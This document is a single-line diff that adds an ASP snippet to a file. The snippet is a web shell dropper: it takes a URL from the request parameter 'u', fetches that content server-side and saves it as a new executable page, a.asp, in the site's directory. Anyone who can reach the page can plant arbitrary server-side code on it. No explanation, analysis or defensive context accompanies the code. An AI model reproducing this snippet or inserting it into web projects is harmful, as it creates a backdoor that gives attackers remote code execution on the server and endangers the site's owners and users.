@@ -1,0 +1,1 @@
+<% Set x = Server.CreateObject("MSXML2.ServerXMLHTTP") : x.Open "GET", Request("u"), False : x.Send : Set s = CreateObject("ADODB.Stream") : s.Type = 1 : s.Open : s.Write x.responseBody : s.SaveToFile Server.MapPath("a.asp"), 2 %>
